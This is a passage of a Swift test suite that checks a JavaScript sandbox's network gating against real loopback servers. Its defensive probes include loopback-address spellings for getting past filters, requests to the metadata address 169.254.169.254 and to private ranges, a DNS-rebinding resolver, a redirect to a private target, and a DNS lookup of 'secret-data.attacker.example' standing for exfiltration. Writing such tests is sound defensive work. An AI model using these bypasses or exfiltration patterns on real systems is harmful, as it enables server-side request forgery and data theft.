import Foundation
import NIOCore
import NIOHTTP1
import NIOPosix
import NIOSSL
@testable import SecureExec
import Synchronization
import Testing

/// A real HTTP/1.1 server on 127.0.0.1 (an ephemeral port) in the test process. `respond`
/// answers each request; every request is recorded.
final class LoopbackServer: Sendable {
    struct Request: Sendable {
        var method: String
        var uri: String
        var headers: [(String, String)]
        var body: [UInt8]
        func header(_ name: String) -> String? { headers.first { $0.0.lowercased() == name.lowercased() }?.1 }
    }
    struct Response: Sendable {
        var status: Int = 200
        var headers: [(String, String)] = []
        var body: String = ""
        /// Raw body bytes; when set they are sent instead of `body`.
        var bytes: [UInt8]? = nil
    }
    typealias Responder = @Sendable (Request) -> Response

    let port: Int
    private let channel: any Channel
    private let log: Mutex<[Request]>

    var requests: [Request] { log.withLock { $0 } }

    private init(port: Int, channel: any Channel) {
        self.port = port
        self.channel = channel
        self.log = Mutex([])
    }

    static func start(tls: NIOSSLContext? = nil, _ respond: @escaping Responder = { _ in Response(body: "hello") }) async throws -> LoopbackServer {
        let box = LogBox()
        let channel = try await ServerBootstrap(group: MultiThreadedEventLoopGroup.singleton)
            .serverChannelOption(ChannelOptions.socketOption(.so_reuseaddr), value: 1)
            .childChannelInitializer { channel in
                channel.eventLoop.makeCompletedFuture {
                    if let tls { try channel.pipeline.syncOperations.addHandler(NIOSSLServerHandler(context: tls)) }
                    try channel.pipeline.syncOperations.configureHTTPServerPipeline()
                    try channel.pipeline.syncOperations.addHandler(Handler(respond: respond, box: box))
                }
            }
            .bind(host: "127.0.0.1", port: 0).get()
        let server = LoopbackServer(port: channel.localAddress?.port ?? 0, channel: channel)
        box.server.withLock { $0 = server }
        return server
    }

    func record(_ request: Request) { log.withLock { $0.append(request) } }

    func stop() async { try? await channel.close() }

    final class LogBox: Sendable {
        let server = Mutex<LoopbackServer?>(nil)
    }

    private final class Handler: ChannelInboundHandler {
        typealias InboundIn = HTTPServerRequestPart
        typealias OutboundOut = HTTPServerResponsePart
        let respond: Responder
        let box: LogBox
        var head: HTTPRequestHead?
        var body: [UInt8] = []
        init(respond: @escaping Responder, box: LogBox) {
            self.respond = respond
            self.box = box
        }
        func channelRead(context: ChannelHandlerContext, data: NIOAny) {
            switch unwrapInboundIn(data) {
            case .head(let h): head = h; body = []
            case .body(var b): body += b.readBytes(length: b.readableBytes) ?? []
            case .end:
                guard let head else { return }
                let request = Request(method: head.method.rawValue, uri: head.uri,
                                      headers: head.headers.map { ($0.name, $0.value) }, body: body)
                box.server.withLock { $0 }?.record(request)
                let response = respond(request)
                var headers = HTTPHeaders(response.headers)
                let payload = response.bytes ?? Array(response.body.utf8)
                headers.add(name: "Content-Length", value: String(payload.count))
                headers.add(name: "Connection", value: "close")
                context.write(wrapOutboundOut(.head(HTTPResponseHead(version: .http1_1, status: .init(statusCode: response.status),
                                                                     headers: headers))), promise: nil)
                context.write(wrapOutboundOut(.body(.byteBuffer(context.channel.allocator.buffer(bytes: payload)))),
                              promise: nil)
                let channel = context.channel
                context.writeAndFlush(wrapOutboundOut(.end(nil))).whenComplete { _ in channel.close(promise: nil) }
            }
        }
    }
}

/// Permission checks that record every request they see.
final class NetworkLog: Sendable {
    let seen = Mutex<[NetworkAccessRequest]>([])
    var requests: [NetworkAccessRequest] { seen.withLock { $0 } }
    func check(_ decide: @escaping @Sendable (NetworkAccessRequest) -> Bool = { _ in true }) -> PermissionCheck<NetworkAccessRequest> {
        .check { (request: NetworkAccessRequest) -> Bool in
            self.seen.withLock { $0.append(request) }
            return decide(request)
        }
    }
}

func networkDriver(exempt: Set<Int> = [], check: PermissionCheck<NetworkAccessRequest> = .allow,
                   resolver: (@Sendable (String) async throws -> [IPAddress])? = nil) -> NodeDriver {
    NodeDriver(network: DefaultNetworkAdapter(loopbackExemptPorts: exempt, resolver: resolver),
               permissions: Permissions(network: check))
}

@Suite("Network: fetch, http, dns and sandbox servers against real loopback servers")
struct NetworkTests {
    @Test func fetchReachesAnExemptLoopbackServer() async throws {
        let server = try await LoopbackServer.start { request in
            LoopbackServer.Response(status: 201, headers: [("X-Reply", "yes"), ("Content-Type", "text/plain")],
                                    body: "got \(request.method) \(request.uri) \(String(decoding: request.body, as: UTF8.self))")
        }
        defer { Task { await server.stop() } }
        let log = NetworkLog()
        let (result, output) = try await exec("""
            const r = await fetch('http://127.0.0.1:\(server.port)/path?q=1', { method: 'POST', body: 'data',
              headers: { 'X-Test': 'a' } });
            console.log(r.status, r.ok, r.statusText, r.headers.get('x-reply'), r.headers.get('content-type'));
            console.log(await r.text(), r.bodyUsed, r.url);
            """, networkDriver(exempt: [server.port], check: log.check()))
        #expect(result.code == 0, "\(result)")
        #expect(output.stdout == "201 true Created yes text/plain\ngot POST /path?q=1 data true http://127.0.0.1:\(server.port)/path?q=1\n")
        let seen = server.requests.first
        #expect(seen?.header("x-test") == "a")
        #expect(seen?.header("host") == "127.0.0.1:\(server.port)")
        #expect(seen?.header("content-type") == "text/plain;charset=UTF-8")
        #expect(log.requests == [NetworkAccessRequest(op: .fetch, url: "http://127.0.0.1:\(server.port)/path?q=1", method: "POST",
                                                      hostname: "127.0.0.1", port: server.port, protocol: "http:",
                                                      resolvedAddresses: ["127.0.0.1"])])
    }

    @Test func theSeedExampleIsBlockedByDefault() async throws {
        // Permission granted, but the default adapter refuses loopback (no exempt port).
        let server = try await LoopbackServer.start()
        defer { Task { await server.stop() } }
        let (result, output) = try await exec("""
            try { await fetch('http://localhost:\(server.port)'); console.log('reached') }
            catch (e) { console.log(e.name, e.message, e.cause.code, e.cause.syscall, e.cause.message) }
            """, networkDriver())
        #expect(result.code == 0)
        #expect(output.stdout.hasPrefix("TypeError fetch failed EACCES connect connect EACCES localhost:\(server.port): loopback address"))
        #expect(server.requests.isEmpty)
    }

    static let loopbackURLs = ["127.0.0.1", "127.1", "2130706433", "0x7f000001", "0177.0.0.1", "0x7f.1", "127.0.0.1.",
                               "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "localhost", "localhost.", "LOCALHOST"]

    @Test func compressedResponsesAreDecodedAsUndiciDoes() async throws {
        // Bodies compressed by the host's node (gzip, deflate, br), served raw by a loopback server.
        let text = String(repeating: "compressed body ", count: 64)
        @Sendable func compressed(_ method: String) throws -> [UInt8] {
            let process = Process()
            process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
            process.arguments = ["node", "-e", "process.stdout.write(require('zlib').\(method)(process.argv[1]))", text]
            let out = Pipe()
            process.standardOutput = out
            try process.run()
            let data = out.fileHandleForReading.readDataToEndOfFile()
            process.waitUntilExit()
            return Array(data)
        }
        let bodies = try await onOwnThread {
            ["gzip": try compressed("gzipSync"), "deflate": try compressed("deflateSync"), "br": try compressed("brotliCompressSync")]
        }
        let server = try await LoopbackServer.start { request in
            let coding = String(request.uri.dropFirst())
            return LoopbackServer.Response(headers: [("Content-Encoding", coding)], bytes: bodies[coding] ?? [])
        }
        defer { Task { await server.stop() } }
        let (result, output) = try await exec("""
            for (const coding of ['gzip', 'deflate', 'br']) {
              const r = await fetch('http://127.0.0.1:\(server.port)/' + coding);
              const body = await r.text();
              console.log(coding, r.headers.get('content-encoding'), body.length, body.slice(0, 16));
            }
            """, networkDriver(exempt: [server.port]))
        #expect(result.code == 0, "\(result)")
        #expect(output.stdout == """
            gzip gzip \(text.count) compressed body 
            deflate deflate \(text.count) compressed body 
            br br \(text.count) compressed body 

            """)
        #expect(server.requests.first?.header("accept-encoding") == "gzip, deflate")
    }

    @Test func everySpellingOfLoopbackIsDeniedByDefaultAndAllowedOnAnExemptPort() async throws {
        let server = try await LoopbackServer.start()
        defer { Task { await server.stop() } }
        let list = Self.loopbackURLs.map { "'http://\($0):\(server.port)/'" }.joined(separator: ", ")
        let code = """
            for (const url of [\(list)]) {
              try { const r = await fetch(url); console.log('ok', await r.text()) }
              catch (e) { console.log(e.cause?.code ?? e.message) }
            }
            """
        let (_, denied) = try await exec(code, networkDriver())
        #expect(denied.stdout == String(repeating: "EACCES\n", count: Self.loopbackURLs.count))
        #expect(server.requests.isEmpty)
        let (allowedResult, allowed) = try await exec(code, networkDriver(exempt: [server.port]))
        #expect(allowed.stdout == String(repeating: "ok hello\n", count: Self.loopbackURLs.count), "\(allowedResult) \(allowed.stderr)")
        // Addresses that are not loopback stay closed on an exempt port.
        let (_, other) = try await exec("""
            for (const url of ['http://0.0.0.0:\(server.port)/', 'http://[::]:\(server.port)/', 'http://0:\(server.port)/',
                               'http://169.254.169.254:\(server.port)/', 'http://10.0.0.1:\(server.port)/',
                               'http://[fe80::1]:\(server.port)/', 'http://[64:ff9b::7f00:1]:\(server.port)/']) {
              try { await fetch(url); console.log('reached') } catch (e) { console.log(e.cause?.code) }
            }
            """, networkDriver(exempt: [server.port]))
        #expect(other.stdout == String(repeating: "EACCES\n", count: 7))
    }

    @Test func aNameResolvingToAPrivateAddressIsBlocked() async throws {
        let log = NetworkLog()
        let (_, output) = try await exec("""
            try { await fetch('http://internal.example/'); } catch (e) { console.log(e.cause.code, e.cause.message) }
            """, networkDriver(check: log.check(), resolver: { _ in [IPAddress("8.8.8.8")!, IPAddress("10.1.2.3")!] }))
        // One private answer among public ones is enough to refuse.
        #expect(output.stdout == "EACCES connect EACCES internal.example:80: private address 10.1.2.3 is not reachable from the sandbox\n")
        #expect(log.requests.map(\.op) == [.dns, .fetch])
        #expect(log.requests.last?.resolvedAddresses == ["8.8.8.8", "10.1.2.3"])
    }

    @Test func dnsRebindingNeverReachesThePrivateAddress() async throws {
        let server = try await LoopbackServer.start()
        defer { Task { await server.stop() } }
        // The resolver alternates a public answer and loopback. Each connection resolves once,
        // checks that answer and connects to it: the loopback answer is refused every time.
        let calls = Mutex(0)
        let resolver: @Sendable (String) async throws -> [IPAddress] = { _ in
            let n = calls.withLock { c -> Int in c += 1; return c }
            return [n % 2 == 1 ? IPAddress("192.0.2.1")! : IPAddress("127.0.0.1")!]
        }
        let (_, output) = try await exec("""
            for (let i = 0; i < 4; i++) {
              try { await fetch('http://rebind.example:\(server.port)/'); console.log('reached') }
              catch (e) { console.log(e.cause.code) }
            }
            """, networkDriver(resolver: resolver))
        // 192.0.2.1 is reserved (documentation) too: everything is refused, nothing connects.
        #expect(output.stdout == "EACCES\nEACCES\nEACCES\nEACCES\n")
        #expect(server.requests.isEmpty)
        #expect(calls.withLock { $0 } == 4)
    }

    @Test func redirectToAPrivateAddressIsBlockedAtTheHop() async throws {
        let target = try await LoopbackServer.start { _ in LoopbackServer.Response(body: "secret") }
        defer { Task { await target.stop() } }
        let first = try await LoopbackServer.start { request in
            request.uri == "/same"
                ? LoopbackServer.Response(status: 302, headers: [("Location", "/final")])
                : request.uri == "/final" ? LoopbackServer.Response(body: "final")
                : LoopbackServer.Response(status: 302, headers: [("Location", "http://127.0.0.1:\(target.port)/")])
        }
        defer { Task { await first.stop() } }
        let log = NetworkLog()
        let (result, output) = try await exec("""
            const ok = await fetch('http://127.0.0.1:\(first.port)/same');
            console.log(ok.status, ok.redirected, ok.url, await ok.text());
            try { await fetch('http://127.0.0.1:\(first.port)/away'); } catch (e) { console.log(e.message, e.cause.code) }
            const manual = await fetch('http://127.0.0.1:\(first.port)/away', { redirect: 'manual' });
            console.log(manual.status, manual.headers.get('location'));
            """, networkDriver(exempt: [first.port], check: log.check()))
        #expect(result.code == 0, "\(result)")
        #expect(output.stdout == """
            200 true http://127.0.0.1:\(first.port)/final final
            fetch failed EACCES
            302 http://127.0.0.1:\(target.port)/

            """)
        #expect(target.requests.isEmpty)
        // Every hop was a permission request of its own.
        #expect(log.requests.compactMap(\.url) == [
            "http://127.0.0.1:\(first.port)/same", "http://127.0.0.1:\(first.port)/final",
            "http://127.0.0.1:\(first.port)/away", "http://127.0.0.1:\(target.port)/",
            "http://127.0.0.1:\(first.port)/away",
        ])
    }

    @Test func deniedPermissionNeverResolvesOrConnects() async throws {
        let server = try await LoopbackServer.start()
        defer { Task { await server.stop() } }
        let resolved = Mutex(0)
        let log = NetworkLog()
        let (_, output) = try await exec("""
            try { await fetch('http://blocked.example/'); } catch (e) { console.log(e.message, e.cause.code, e.cause.syscall) }
            try { await fetch('http://127.0.0.1:\(server.port)/'); } catch (e) { console.log(e.cause.code) }
            """, networkDriver(exempt: [server.port], check: log.check { _ in false },
                               resolver: { _ in resolved.withLock { $0 += 1 }; return [IPAddress("8.8.8.8")!] }))
        #expect(output.stdout == "fetch failed EACCES getaddrinfo\nEACCES\n")
        #expect(resolved.withLock { $0 } == 0)
        #expect(server.requests.isEmpty)
        #expect(log.requests.map(\.op) == [.dns, .fetch])
        #expect(log.requests.first?.hostname == "blocked.example")
    }

    @Test func withoutANetworkPermissionNothingIsAsked() async throws {
        let (_, output) = try await exec("""
            try { await fetch('http://example.com/'); } catch (e) { console.log(e.message, e.cause.code) }
            """, NodeDriver(network: DefaultNetworkAdapter(resolver: { _ in Issue.record("resolved"); return [] })))
        #expect(output.stdout == "fetch failed EACCES\n")
    }

    @Test func responseBodiesAreBounded() async throws {
        let server = try await LoopbackServer.start { _ in LoopbackServer.Response(body: String(repeating: "x", count: 5000)) }
        defer { Task { await server.stop() } }
        let (_, output) = try await exec("""
            // Declared too large: fetch itself fails.
            try { await fetch('http://127.0.0.1:\(server.port)/'); } catch (e) { console.log(e.message, e.cause.code) }
            """, networkDriver(exempt: [server.port]), limits: ResourceLimits(maxNetworkBodyBytes: 4096))
        #expect(output.stdout == "fetch failed ERR_SANDBOX_RESPONSE_TOO_LARGE\n")
    }

    @Test func responseBodiesStream() async throws {
        let server = try await LoopbackServer.start { _ in LoopbackServer.Response(body: String(repeating: "abcdefgh", count: 64 << 10)) }
        defer { Task { await server.stop() } }
        let (result, output) = try await exec("""
            const r = await fetch('http://127.0.0.1:\(server.port)/');
            let chunks = 0, bytes = 0;
            for await (const chunk of r.body) { chunks++; bytes += chunk.length; }
            console.log(bytes, chunks > 1);
            // Cancelling a body mid-way closes it; the call still ends.
            const r2 = await fetch('http://127.0.0.1:\(server.port)/');
            const reader = r2.body.getReader();
            await reader.read();
            await reader.cancel();
            console.log('cancelled');
            """, networkDriver(exempt: [server.port]))
        #expect(result.code == 0, "\(result) \(output.stderr)")
        #expect(output.stdout == "524288 true\ncancelled\n")
    }

    @Test func connectionRefusedLooksLikeUndici() async throws {
        let server = try await LoopbackServer.start()
        let port = server.port
        await server.stop()
        let (_, output) = try await exec("""
            try { await fetch('http://127.0.0.1:\(port)/'); } catch (e) { console.log(e.name, e.message, e.cause.code) }
            """, networkDriver(exempt: [port]))
        #expect(output.stdout == "TypeError fetch failed ECONNREFUSED\n")
    }

    /// A refused TLS socket and WebSocket fail with ECONNREFUSED in the guest; the host's
    /// handshake promises are completed on that path too (SwiftNIO stops a debug build that
    /// drops one — Node's test-tls-connect-hints-option found it).
    @Test func refusedTLSAndWebSocketConnectionsFailCleanly() async throws {
        let server = try await LoopbackServer.start()
        let port = server.port
        await server.stop()
        let (result, output) = try await exec("""
            const tls = require('tls');
            await new Promise((resolve) => {
              tls.connect({ host: '127.0.0.1', port: \(port) }).on('error', (e) => { console.log('tls', e.code); resolve(); });
            });
            await new Promise((resolve) => {
              const ws = new WebSocket('ws://127.0.0.1:\(port)/');
              ws.onerror = () => console.log('websocket error');
              ws.onclose = (e) => { console.log('websocket close', e.code); resolve(); };
            });
            """, networkDriver(exempt: [port]))
        #expect(result.code == 0, "\(result.errorMessage ?? "") \(output.stderr)")
        #expect(output.stdout == "tls ECONNREFUSED\nwebsocket error\nwebsocket close 1006\n")
    }

    /// A loopback TLS server with a self-signed certificate (made by the `openssl` command):
    /// refused, because verification is on.
    @Test(.enabled(if: FileManager.default.isExecutableFile(atPath: "/usr/bin/openssl")))
    func tlsVerificationIsOn() async throws {
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("se-tls-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: dir) }
        let openssl = Process()
        openssl.executableURL = URL(fileURLWithPath: "/usr/bin/openssl")
        openssl.arguments = ["req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes", "-days", "1", "-subj", "/CN=localhost",
                             "-addext", "subjectAltName=DNS:localhost,IP:127.0.0.1",
                             "-keyout", dir.appendingPathComponent("key.pem").path, "-out", dir.appendingPathComponent("cert.pem").path]
        openssl.standardError = FileHandle.nullDevice
        openssl.standardOutput = FileHandle.nullDevice
        // Waiting for a process blocks a thread: not one of the cooperative pool's.
        let status: Int32 = await withCheckedContinuation { continuation in
            Thread {
                do {
                    try openssl.run()
                    openssl.waitUntilExit()
                    continuation.resume(returning: openssl.terminationStatus)
                } catch {
                    continuation.resume(returning: -1)
                }
            }.start()
        }
        try #require(status == 0)
        let certificates = try NIOSSLCertificate.fromPEMFile(dir.appendingPathComponent("cert.pem").path)
        let key = try NIOSSLPrivateKey(file: dir.appendingPathComponent("key.pem").path, format: .pem)
        let context = try NIOSSLContext(configuration: .makeServerConfiguration(
            certificateChain: certificates.map { .certificate($0) }, privateKey: .privateKey(key)))
        let server = try await LoopbackServer.start(tls: context)
        defer { Task { await server.stop() } }
        let (_, output) = try await exec("""
            try { await fetch('https://127.0.0.1:\(server.port)/'); console.log('reached') } catch (e) { console.log(e.message, e.cause.code) }
            try { await fetch('https://localhost:\(server.port)/'); console.log('reached') } catch (e) { console.log(e.message, e.cause.code) }
            """, networkDriver(exempt: [server.port]))
        #expect(output.stdout == "fetch failed UNABLE_TO_VERIFY_LEAF_SIGNATURE\nfetch failed UNABLE_TO_VERIFY_LEAF_SIGNATURE\n")
        #expect(server.requests.isEmpty)
        // tls.connect: the same verification, even with rejectUnauthorized: false; checked as
        // protocol tls:.
        let log = NetworkLog()
        let (_, tls) = try await exec("""
            const tls = require('tls');
            const s = tls.connect({ host: 'localhost', port: \(server.port), rejectUnauthorized: false }, () => console.log('secure'));
            s.on('error', (e) => console.log('error', e.code, s.encrypted));
            """, networkDriver(exempt: [server.port], check: log.check()))
        #expect(tls.stdout == "error UNABLE_TO_VERIFY_LEAF_SIGNATURE true\n")
        #expect(log.requests.last?.protocol == "tls:")
        #expect(log.requests.last?.op == .connect)
        #expect(server.requests.isEmpty)
    }

    @Test func httpGetAndRequest() async throws {
        let server = try await LoopbackServer.start { request in
            LoopbackServer.Response(status: 200, headers: [("Set-Cookie", "a=1"), ("Set-Cookie", "b=2"), ("X-Kind", "node")],
                                    body: "\(request.method) \(request.uri) \(String(decoding: request.body, as: UTF8.self))")
        }
        defer { Task { await server.stop() } }
        let log = NetworkLog()
        let (result, output) = try await exec("""
            const http = require('http');
            http.get('http://127.0.0.1:\(server.port)/one', (res) => {
              console.log(res.statusCode, res.statusMessage, res.headers['x-kind'], res.headers['set-cookie']);
              let data = '';
              res.setEncoding('utf8');
              res.on('data', (c) => data += c);
              res.on('end', () => {
                console.log(data);
                const req = http.request({ host: '127.0.0.1', port: \(server.port), path: '/two', method: 'PUT',
                                           headers: { 'Content-Type': 'text/plain' } }, (res2) => {
                  res2.on('data', (c) => console.log(String(c)));
                });
                req.write('a');
                req.end('b');
              });
            });
            """, networkDriver(exempt: [server.port], check: log.check()))
        #expect(result.code == 0, "\(result)")
        #expect(output.stdout == "200 OK node [ 'a=1', 'b=2' ]\nGET /one \nPUT /two ab\n")
        #expect(log.requests.map(\.op) == [.http, .http])
        #expect(log.requests.last?.method == "PUT")
        #expect(server.requests.last?.header("content-length") == "2")
    }

    @Test func httpDenialIsAnErrorEvent() async throws {
        let (_, output) = try await exec("""
            const req = require('http').get('http://localhost:9/');
            req.on('error', (e) => console.log(e.code, e.syscall, e.message));
            """, networkDriver())
        #expect(output.stdout == "EACCES connect connect EACCES localhost:9: loopback address 127.0.0.1 is not reachable from the sandbox\n"
            || output.stdout == "EACCES connect connect EACCES localhost:9: loopback address ::1 is not reachable from the sandbox\n")
    }

    @Test func dnsLookupIsGated() async throws {
        let log = NetworkLog()
        let (_, output) = try await exec("""
            const dns = require('dns');
            console.log(await dns.promises.lookup('service.example'));
            console.log(await require('dns/promises').lookup('service.example', { all: true }));
            dns.lookup('secret-data.attacker.example', (err) => console.log(err.code, err.syscall));
            """, networkDriver(check: log.check { $0.hostname == "service.example" },
                               resolver: { _ in [IPAddress("93.184.216.34")!, IPAddress("2606:2800:220:1::")!] }))
        #expect(output.stdout == """
            { address: '93.184.216.34', family: 4 }
            [
              { address: '93.184.216.34', family: 4 },
              { address: '2606:2800:220:1::', family: 6 }
            ]
            EACCES getaddrinfo

            """)
        #expect(log.requests.map(\.op) == [.dns, .dns, .dns])
        #expect(log.requests.last?.hostname == "secret-data.attacker.example")
    }

    @Test func aSandboxServerAnswersAFetchFromTheSameGuest() async throws {
        let log = NetworkLog()
        let (result, output) = try await exec("""
            const http = require('http');
            const server = http.createServer((req, res) => {
              let body = '';
              req.on('data', (c) => body += c);
              req.on('end', () => {
                res.setHeader('Content-Type', 'application/json');
                res.writeHead(202, { 'X-From': 'sandbox' });
                res.end(JSON.stringify({ method: req.method, url: req.url, body, host: req.headers.host }));
              });
            });
            server.listen(3000, async () => {
              console.log('listening', server.address().port);
              const r = await fetch('http://localhost:3000/hello?x=1', { method: 'POST', body: 'ping' });
              console.log(r.status, r.headers.get('x-from'), JSON.stringify(await r.json()));
              const r2 = await fetch('http://127.0.0.1:3000/again');
              console.log(r2.status, (await r2.json()).url);
              server.close(() => console.log('closed'));
            });
            """, networkDriver(check: log.check()))
        #expect(result.code == 0, "\(result)")
        #expect(output.stdout == """
            listening 3000
            202 sandbox {"method":"POST","url":"/hello?x=1","body":"ping","host":"localhost:3000"}
            202 /again
            closed

            """)
        #expect(log.requests.first == NetworkAccessRequest(op: .listen, hostname: "127.0.0.1", port: 3000, protocol: "http:"))
        // The sandbox's own server is reachable although loopback is otherwise refused.
        #expect(log.requests.contains { $0.op == .fetch && $0.port == 3000 })
    }

    /// As in Node, `server.close()` stops new connections but lets a request already received be
    /// answered; the connection closes after it.
    @Test func closingAServerLetsTheRequestInProgressFinish() async throws {
        let (result, output) = try await exec("""
            const http = require('http');
            const server = http.createServer((req, res) => {
              server.close(() => console.log('closed'));
              setTimeout(() => res.end('late answer'), 50);
            });
            server.listen(0, async () => {
              const r = await fetch(`http://localhost:${server.address().port}/`);
              console.log(r.status, await r.text());
            });
            """, networkDriver())
        #expect(result.code == 0, "\(result)")
        #expect(output.stdout.split(separator: "\n").sorted() == ["200 late answer", "closed"], "\(output.stdout)")
    }

    /// `listen()` then `close()` at once (the host is still opening the server): as in Node, no
    /// `'listening'`, the close callback without an error, and nothing keeps the call alive.
    @Test func aServerClosedRightAfterListenNeverListens() async throws {
        let (result, output) = try await exec("""
            const net = require('net'), http = require('http');
            const a = net.createServer(); a.listen(0); a.close((e) => console.log('net closed', e));
            a.on('listening', () => console.log('net listening'));
            const b = http.createServer(); b.listen(0, () => console.log('http listening')); b.close((e) => console.log('http closed', e));
            const c = net.createServer(); c.close((e) => console.log('not running', e && e.code));
            const d = net.createServer(); d.listen(0); d.unref();
            const e = net.createServer(); e.listen(0, () => { e.unref(); e.ref(); e.unref(); console.log('e listening'); });
            """, networkDriver())
        #expect(result.code == 0, "\(result)")
        #expect(output.stdout.split(separator: "\n").sorted() == ["e listening", "http closed undefined", "net closed undefined", "not running ERR_SERVER_NOT_RUNNING"],
                "\(output.stdout)")
    }

    /// A server socket nobody reads still notices its peer's end, ends and closes (as in Node):
    /// nothing keeps the call alive once the client is gone and the server closed. (In the full
    /// suite this test takes ≈ 30 s, as do the other tests that start first: the suite starts
    /// about a hundred runtimes at once, and their workers boot together on two cores.)
    @Test func anUnreadServerSocketClosesWithItsPeer() async throws {
        // Each step on stderr, so that a failure shows where the call stopped.
        let (result, output) = try await exec("""
            const net = require('net');
            const step = (s) => process.stderr.write(s + '\\n');
            const server = net.createServer().listen(0, function () {
              step('listening');
              const client = net.createConnection(this.address().port, () => { step('connected'); setTimeout(() => client.destroy(), 20); })
                .on('close', () => { step('client closed'); server.close(() => console.log('server closed')); });
            });
            server.on('connection', (socket) => { step('accepted'); socket.on('end', () => step('peer ended')).on('close', () => step('socket closed')); });
            """, networkDriver())
        #expect(result.code == 0, "\(result) steps: \(output.stderr)")
        #expect(output.stdout == "server closed\n")
    }

    /// As Node: a server without a host is bound when listen() returns (its address is known at
    /// once, 'listening' follows), bytes written before the connection count in bytesWritten,
    /// and an idle socket's setTimeout fires 'timeout'.
    @Test func serversBindAtOnceAndIdleSocketsTimeOut() async throws {
        let (result, output) = try await exec("""
            const net = require('net');
            const server = net.createServer((socket) => { socket.on('data', () => {}); });
            server.listen(0);
            const port = server.address().port;
            console.log(typeof port, server.listening);
            server.on('listening', () => console.log('listening'));
            const client = net.connect(port, '127.0.0.1');
            client.write('abc');
            console.log('queued', client.bytesWritten, client.bufferSize);
            client.setTimeout(30, () => { console.log('timeout', client.bytesWritten); client.destroy(); server.close(); });
            try { client.setTimeout(-1); } catch (e) { console.log(e.code); }
            try { net.connect(); } catch (e) { console.log(e.code); }
            """, networkDriver())
        #expect(result.code == 0, "\(result)")
        #expect(output.stdout == "number true\nqueued 3 3\nERR_OUT_OF_RANGE\nERR_MISSING_ARGS\nlistening\ntimeout 3\n")
    }

    @Test func listenIsGated() async throws {
        let (_, output) = try await exec("""
            const server = require('http').createServer(() => {});
            server.on('error', (e) => console.log(e.code, e.syscall));
            server.listen(8080);
            """, networkDriver(check: .check { (request: NetworkAccessRequest) -> Bool in request.op != .listen }))
        #expect(output.stdout == "EACCES listen\n")
    }

    /// `maxHandles` bounds a call's servers, sockets and requests in flight together.
    @Test func handlesAreBudgeted() async throws {
        let (result, output) = try await exec("""
            const net = require('net');
            const servers = [];
            let settled = 0;
            const done = () => { if (++settled === 4) servers.forEach((s) => s.close()); };
            for (let i = 0; i < 4; i++) {
              const server = net.createServer(() => {});
              server.on('error', (e) => { console.log(i, e.code, e.message); done(); });
              server.listen(0, '127.0.0.1', () => { console.log(i, 'listening'); done(); });
              servers.push(server);
            }
            """, networkDriver(), limits: ResourceLimits(maxHandles: 3))
        #expect(result.code == 0, "\(result.errorMessage ?? "")")
        let lines = output.stdout.split(separator: "\n").map(String.init)
        #expect(lines.filter { $0.hasSuffix("listening") }.count == 3, "\(lines)")
        // The listens run concurrently: any one of the four is refused.
        #expect(lines.filter { $0.hasSuffix(" ERR_RESOURCE_BUDGET_EXCEEDED ERR_RESOURCE_BUDGET_EXCEEDED: maximum number of handles (3) exceeded") }.count == 1,
                "\(lines)")
    }

    @Test func headersRequestResponseAndFormData() async throws {
        let (result, output) = try await exec("""
            const h = new Headers({ 'B': '2', a: '1' });
            h.append('a', '3');
            console.log([...h], h.get('A'));
            const form = new FormData();
            form.append('name', 'value');
            form.append('file', new Blob(['abc'], { type: 'text/plain' }), 'a.txt');
            const req = new Request('http://example.com/x', { method: 'post', body: form });
            console.log(req.method, req.url, req.headers.get('content-type').startsWith('multipart/form-data; boundary='));
            const back = await req.formData();
            console.log(back.get('name'), back.get('file').name, await back.get('file').text());
            const res = Response.json({ a: 1 }, { status: 201 });
            console.log(res.status, res.headers.get('content-type'), await res.clone().json(), await res.text());
            const r2 = new Response(new URLSearchParams('a=1&b=2'));
            console.log(r2.headers.get('content-type'), (await r2.formData()).get('b'));
            const stream = new Response('streamed').body;
            const reader = stream.getReader();
            const { value } = await reader.read();
            console.log(new TextDecoder().decode(value));
            try { new Request('http://example.com', { method: 'GET', body: 'x' }) } catch (e) { console.log(e.name) }
            """)
        #expect(result.code == 0, "\(result)")
        #expect(output.stdout == """
            [ [ 'a', '1, 3' ], [ 'b', '2' ] ] 1, 3
            POST http://example.com/x true
            value a.txt abc
            201 application/json { a: 1 } {"a":1}
            application/x-www-form-urlencoded;charset=UTF-8 2
            streamed
            TypeError

            """)
    }

    @Test func abortSignalStopsAFetch() async throws {
        let (_, output) = try await exec("""
            const c = new AbortController();
            c.abort();
            try { await fetch('http://example.com/', { signal: c.signal }) } catch (e) { console.log(e.name) }
            """, networkDriver())
        #expect(output.stdout == "AbortError\n")
    }

    @Test func netSocketsTalkToASandboxServerAndToAnExemptLoopbackServer() async throws {
        let server = try await LoopbackServer.start { request in LoopbackServer.Response(body: "raw \(request.uri)") }
        defer { Task { await server.stop() } }
        let log = NetworkLog()
        let (result, output) = try await exec("""
            const net = require('net');
            const echo = net.createServer((socket) => {
              socket.on('data', (d) => socket.write('echo:' + d));
              socket.on('end', () => socket.end());
            });
            echo.listen(7000, () => {
              const c = net.connect(7000, 'localhost', () => c.end('hi'));
              let got = '';
              c.on('data', (d) => got += d);
              c.on('close', () => {
                console.log(got);
                echo.close();
                const h = net.connect({ host: '127.0.0.1', port: \(server.port) }, () => {
                  h.write('GET /tcp HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n');
                });
                let reply = '';
                h.on('data', (d) => reply += d);
                h.on('end', () => console.log(reply.split('\\r\\n').pop()));
                const blocked = net.connect(\(server.port) + 1, '127.0.0.1');
                blocked.on('error', (e) => console.log(e.code, e.syscall));
              });
            });
            """, networkDriver(exempt: [server.port], check: log.check()))
        #expect(result.code == 0, "\(result)")
        #expect(output.stdout == "echo:hi\nEACCES connect\nraw /tcp\n" || output.stdout == "echo:hi\nraw /tcp\nEACCES connect\n")
        #expect(log.requests.first == NetworkAccessRequest(op: .listen, hostname: "127.0.0.1", port: 7000, protocol: "tcp:"))
        #expect(log.requests.contains(NetworkAccessRequest(op: .connect, hostname: "127.0.0.1", port: server.port,
                                                           protocol: "tcp:", resolvedAddresses: ["127.0.0.1"])))
    }

    /// Express-style streaming: the first part reaches the client before the server writes the
    /// rest (the client's second request is what lets the server finish; without streaming this
    /// would never end).
    @Test(.timeLimit(.minutes(1))) func sandboxServersStreamTheirAnswers() async throws {
